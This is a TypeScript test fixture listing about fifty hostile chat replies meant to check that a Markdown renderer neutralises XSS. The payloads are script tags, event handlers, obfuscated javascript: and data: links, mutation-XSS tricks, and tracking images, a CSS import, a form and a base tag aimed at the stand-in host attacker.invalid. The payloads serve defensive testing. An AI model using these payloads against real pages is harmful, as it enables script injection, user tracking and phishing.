/**
 * Replies a model could write to attack the page that renders them. Every payload that runs sets
 * `window.__pwned` (or the parent's, from a frame); every resource points at `attacker.invalid` or
 * at a `/pwned-*` path on the app's own origin, so a request guard can tell it from the app's own
 * traffic. `visible` lists text each reply must still show, exactly.
 */
export interface HostileReply {
  name: string;
  text: string;
  visible: string[];
}

export const HOSTILE_REPLIES: HostileReply[] = [
  {
    name: 'script block',
    text: '<script>window.__pwned = 1</script>',
    visible: ['<script>window.__pwned = 1</script>'],
  },
  {
    name: 'script inline in a sentence',
    text: 'Hello <script>window.__pwned = 2</script> world',
    visible: ['Hello <script>window.__pwned = 2</script> world'],
  },
  {
    name: 'img onerror',
    text: 'Look: <img src="/pwned-img.png" onerror="window.__pwned = 3">',
    visible: ['<img src="/pwned-img.png" onerror="window.__pwned = 3">'],
  },
  {
    name: 'svg onload',
    text: '<svg onload="window.__pwned = 4"><circle r="10"/></svg>',
    visible: ['<svg onload="window.__pwned = 4">'],
  },
  {
    name: 'svg with script and foreignObject',
    text: 'Vector: <svg><script>window.__pwned = 5</script><foreignObject><img src=/pwned-svg.png></foreignObject></svg>',
    visible: ['<svg><script>window.__pwned = 5</script>'],
  },
  {
    name: 'MathML namespace confusion',
    text: '<math><mtext><table><mglyph><style><img src=/pwned-math.png onerror="window.__pwned = 6">',
    visible: ['<math><mtext><table><mglyph><style>'],
  },
  {
    name: 'iframe srcdoc',
    text: 'Frame: <iframe srcdoc="<script>parent.__pwned = 7</script>"></iframe>',
    visible: ['<iframe srcdoc="<script>parent.__pwned = 7</script>"></iframe>'],
  },
  {
    name: 'iframe javascript: src',
    text: '<iframe src="javascript:parent.__pwned = 8"></iframe>',
    visible: ['<iframe src="javascript:parent.__pwned = 8"></iframe>'],
  },
  {
    name: 'object and embed',
    text: 'Plugins: <object data="http://attacker.invalid/x.swf"></object> <embed src="/pwned-embed.swf">',
    visible: ['<object data="http://attacker.invalid/x.swf"></object>', '<embed src="/pwned-embed.swf">'],
  },
  {
    name: 'style block with imports',
    text: "<style>@import 'http://attacker.invalid/x.css'; * { background: url(/pwned-bg.png) }</style>\n\nAfter the style.",
    visible: ["@import 'http://attacker.invalid/x.css'", 'After the style.'],
  },
  {
    name: 'style attribute',
    text: 'A <span style="background: url(/pwned-style.png); position: fixed; inset: 0">cover</span> box',
    visible: ['<span style="background: url(/pwned-style.png); position: fixed; inset: 0">cover</span>'],
  },
  {
    name: 'link stylesheet and meta refresh',
    text: '<link rel="stylesheet" href="/pwned-link.css">\n<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=12">',
    visible: ['<link rel="stylesheet" href="/pwned-link.css">', '<meta http-equiv="refresh"'],
  },
  {
    name: 'Markdown javascript: link',
    text: 'Please [click me](javascript:window.__pwned=13) now.',
    visible: ['Please click me now.'],
  },
  {
    name: 'hex entity javascript: link',
    text: '[entity link](&#x6A;avascript:window.__pwned=14)',
    visible: ['entity link'],
  },
  {
    name: 'decimal entity javascript: link',
    text: '[decimal link](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:window.__pwned=15)',
    visible: ['decimal link'],
  },
  {
    name: 'mixed case scheme',
    text: '[case link](JaVaScRiPt:window.__pwned=16)',
    visible: ['case link'],
  },
  {
    name: 'tab and newline entities inside the scheme',
    text: '[tab link](jav&#x09;ascript:window.__pwned=17) and [named tab](java&Tab;script:window.__pwned=17) and [nl](java&NewLine;script:window.__pwned=17)',
    visible: ['tab link and named tab and nl'],
  },
  {
    name: 'vbscript: link',
    text: '[vb link](vbscript:msgbox("pwned"))',
    visible: ['vb link'],
  },
  {
    name: 'data: links',
    text: '[data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xOTwvc2NyaXB0Pg==) and [data angle](<data:text/html,<script>window.__pwned=19</script>>)',
    // The angle-bracketed one is no link at all ("<" cannot stand in it): it shows as written.
    visible: ['data link and [data angle](<data:text/html,<script>window.__pwned=19</script>>)'],
  },
  {
    name: 'autolinks with bad schemes',
    text: 'Auto: <javascript:window.__pwned=20> <data:text/html,x> <vbscript:x> <file:///etc/passwd>',
    // Autolinks of any scheme are links to Markdown; refused, they show their text.
    visible: ['Auto: javascript:window.__pwned=20 data:text/html,x vbscript:x file:///etc/passwd'],
  },
  {
    name: 'relative and protocol-relative links',
    text: '[relative](/pwned-relative) [protocol-relative](//attacker.invalid/x) [fragment](#top)',
    visible: ['relative protocol-relative fragment'],
  },
  {
    name: 'image syntax',
    text: 'Tracker: ![a chart](http://attacker.invalid/track.png "title")',
    visible: ['Image: a chart'],
  },
  {
    name: 'image on the app origin',
    text: '![same origin](/pwned-image.png) ![](http://attacker.invalid/empty-alt.png)',
    visible: ['Image: same origin', 'Image: '],
  },
  {
    name: 'image with javascript: source',
    text: '![js image](javascript:window.__pwned=23)',
    visible: ['Image: js image'],
  },
  {
    name: 'reference image and reference link to javascript:',
    text: 'See ![logo][img] and [the docs][evil].\n\n[img]: http://attacker.invalid/ref.png\n[evil]: javascript:window.__pwned=24',
    visible: ['Image: logo', 'the docs'],
  },
  {
    name: 'image inside a link',
    text: '[![inner](http://attacker.invalid/in-link.png)](https://example.com/outer)',
    visible: ['Image: inner'],
  },
  {
    name: 'entity-encoded tags',
    text: '&lt;script&gt;window.__pwned=26&lt;/script&gt; and &#60;img src=/pwned-entity.png onerror="window.__pwned=26"&#62;',
    visible: ['<script>window.__pwned=26</script> and <img src=/pwned-entity.png onerror="window.__pwned=26">'],
  },
  {
    name: 'double-encoded entities stay one level',
    text: '&amp;lt;b&amp;gt;not bold&amp;lt;/b&amp;gt; &#x26;lt;i&#x26;gt;',
    visible: ['&lt;b&gt;not bold&lt;/b&gt; &lt;i&gt;'],
  },
  {
    name: 'code span with HTML',
    text: 'Inline `<img src=/pwned-code.png onerror="window.__pwned=28">` code',
    visible: ['<img src=/pwned-code.png onerror="window.__pwned=28">'],
  },
  {
    name: 'fenced code with HTML',
    text: '```html\n<script>window.__pwned = 29</script>\n<img src="/pwned-fence.png">\n```',
    visible: ['<script>window.__pwned = 29</script>', '<img src="/pwned-fence.png">'],
  },
  {
    name: 'fence language that breaks out of an attribute',
    text: '```"><img src=/pwned-lang.png onerror=window.__pwned=30>\nbody\n```',
    visible: ['body'],
  },
  {
    name: 'unclosed fence',
    text: 'Start\n\n```js\nconst s = "<script>window.__pwned = 31</script>";\n// never closed',
    visible: ['const s = "<script>window.__pwned = 31</script>";', '// never closed'],
  },
  {
    name: 'nested fences',
    text: '````md\n```html\n<script>window.__pwned = 32</script>\n```\n````\n\nAfter.',
    visible: ['```html', '<script>window.__pwned = 32</script>', 'After.'],
  },
  {
    name: 'mismatched fences',
    text: '~~~\n<svg onload="window.__pwned = 33">\n```\nstill code\n',
    visible: ['<svg onload="window.__pwned = 33">', 'still code'],
  },
  {
    name: 'indented code',
    text: 'Code:\n\n    <script>window.__pwned = 34</script>\n    <img src=/pwned-indent.png>',
    visible: ['<script>window.__pwned = 34</script>'],
  },
  {
    name: 'table cells with HTML and links',
    text: '| a | b |\n| --- | --- |\n| <img src=/pwned-cell.png onerror="window.__pwned=35"> | [x](javascript:window.__pwned=35) |',
    visible: ['<img src=/pwned-cell.png onerror="window.__pwned=35">'],
  },
  {
    name: 'blockquote with iframe',
    text: '> <iframe src="http://attacker.invalid/frame"></iframe>\n> quoted text',
    visible: ['<iframe src="http://attacker.invalid/frame"></iframe>', 'quoted text'],
  },
  {
    name: 'list items with raw anchors and forms',
    text: '- <a href="javascript:window.__pwned=37">raw anchor</a>\n- <form action="http://attacker.invalid"><button>go</button></form>',
    visible: ['<a href="javascript:window.__pwned=37">raw anchor</a>', '<button>go</button>'],
  },
  {
    name: 'link title that tries to add an attribute',
    text: '[titled](https://example.com/t "a\\" onmouseover=\\"window.__pwned=38")',
    visible: ['titled'],
  },
  {
    name: 'link destination with quotes',
    text: '[quoted](https://example.com/"onmouseover="window.__pwned=39)',
    visible: ['quoted'],
  },
  {
    name: 'HTML comment and CDATA',
    text: 'A <!-- <img src=/pwned-comment.png onerror=window.__pwned=40> --> B <![CDATA[<script>window.__pwned=40</script>]]>',
    visible: ['<!-- <img src=/pwned-comment.png onerror=window.__pwned=40> -->'],
  },
  {
    name: 'base tag, then a relative link',
    text: '<base href="http://attacker.invalid/">\n\n[relative after base](/pwned-base)',
    visible: ['<base href="http://attacker.invalid/">', 'relative after base'],
  },
  {
    name: 'heading and emphasis around HTML',
    text: '# <img src=/pwned-heading.png onerror=window.__pwned=42> title\n\n**<svg/onload=window.__pwned=42>**',
    visible: ['<img src=/pwned-heading.png onerror=window.__pwned=42> title', '<svg/onload=window.__pwned=42>'],
  },
  {
    name: 'zero-width and homoglyph schemes',
    text: '[zw](java\u200Bscript:window.__pwned=43) [cyr](jаvascript:window.__pwned=43)',
    visible: ['zw cyr'],
  },
  {
    name: 'event handlers on other elements',
    text: '<details open ontoggle="window.__pwned=44"><summary>s</summary></details>\n<input autofocus onfocus="window.__pwned=44">\n<video><source onerror="window.__pwned=44"></video>',
    visible: ['<details open ontoggle="window.__pwned=44">', '<input autofocus onfocus="window.__pwned=44">'],
  },
  {
    name: 'srcset, picture and audio',
    text: 'Media <img srcset="/pwned-srcset.png 1x"> <picture><source srcset="/pwned-picture.png"></picture> <audio src="/pwned-audio.mp3" autoplay></audio>',
    visible: ['<img srcset="/pwned-srcset.png 1x">'],
  },
  {
    name: 'noscript mutation',
    text: '<noscript><p title="</noscript><img src=/pwned-noscript.png onerror=window.__pwned=46>">',
    visible: ['<noscript><p title="</noscript>'],
  },
  {
    name: 'template and body handlers',
    text: '<template><img src=/pwned-template.png onerror=window.__pwned=47></template>\n<body onload="window.__pwned=47">',
    visible: ['<body onload="window.__pwned=47">'],
  },
  {
    name: 'allowed links keep their safety attributes',
    text: 'Read <https://example.com/auto>, www.example.org/www, [mail](mailto:someone@example.com) or someone@example.com.',
    visible: ['https://example.com/auto', 'www.example.org/www', 'mail', 'someone@example.com'],
  },
  {
    name: 'odd URLs in Markdown links',
    text: '[spaces](<https://example.com/a b>) [parens](https://example.com/(x)) [nested [brackets]](https://example.com/n) [ctrl](https://exa\u0000mple.com)',
    visible: ['spaces', 'parens', 'nested [brackets]'],
  },
  {
    name: 'credentials trick',
    text: '[bank](https://bank.example@attacker.invalid/login)',
    visible: ['bank'],
  },
];
